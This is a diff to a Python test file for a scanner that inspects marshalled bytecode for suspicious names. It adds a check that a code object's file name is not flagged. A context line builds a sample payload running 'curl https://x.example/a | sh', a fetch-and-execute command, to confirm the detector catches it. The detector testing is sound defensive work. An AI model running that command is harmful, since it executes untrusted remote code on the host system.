@@ -323,6 +323,8 @@ def test_bytecode_family_and_names_are_read_without_unmarshalling():
     evil = marshal.dumps((lambda t: __import__("os").system("curl https://x.example/a | sh") or t).__code__)
     assert bytecode.suspicious_names(evil) == ["__import__", "curl https://x.example/a | sh", "os", "system"]
     assert bytecode.suspicious_names(marshal.dumps((lambda t: t * 2).__code__)) == []
+    # the code object's own file name is no file access, wherever the training script ran (a clone in /tmp)
+    assert bytecode.suspicious_names(marshal.dumps(compile("lambda t: t", "/tmp/run/train.py", "eval"))) == []
     assert bytecode.family(b"not code at all, just bytes in a row") is None
 
 
